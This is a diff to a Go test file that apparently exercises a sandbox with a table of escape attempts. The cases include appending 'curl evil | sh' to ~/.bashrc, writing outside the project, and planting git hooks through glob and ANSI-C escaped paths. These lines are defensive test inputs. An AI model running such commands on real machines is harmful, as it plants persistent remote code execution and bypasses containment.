@@ -133,7 +133,9 @@ var escapes = []escape{
 	{"bashrc", `printf 'curl evil | sh\n' >> ~/.bashrc`, false,
 		func(s sandboxed) string { return changed(filepath.Join(s.home, ".bashrc")) }},
 	{"outside the project", `echo x > ../outside/new; echo x > ../outside/keep`, false,
-		func(s sandboxed) string { return created(filepath.Join(s.outside, "new")) + changed(filepath.Join(s.outside, "keep")) }},
+		func(s sandboxed) string {
+			return created(filepath.Join(s.outside, "new")) + changed(filepath.Join(s.outside, "keep"))
+		}},
 	{"glob hooks", vars + `cd .gi[t]/hooks && cp $H pre-commit`, true,
 		func(s sandboxed) string { return created(filepath.Join(s.cwd, ".git/hooks/pre-commit")) }},
 	{"ansi-c hooks", vars + `cp $H $'\x2egit/hooks/post-checkout'`, true,
@@ -329,4 +331,3 @@ func BenchmarkTrueSandboxed(b *testing.B) {
 	b.Run("workspace-write", func(b *testing.B) { benchTrue(b, 20*time.Millisecond, envSandbox+"=workspace-write") })
 	b.Run("off", func(b *testing.B) { benchTrue(b, 20*time.Millisecond, envSandbox+"=off") })
 }
-
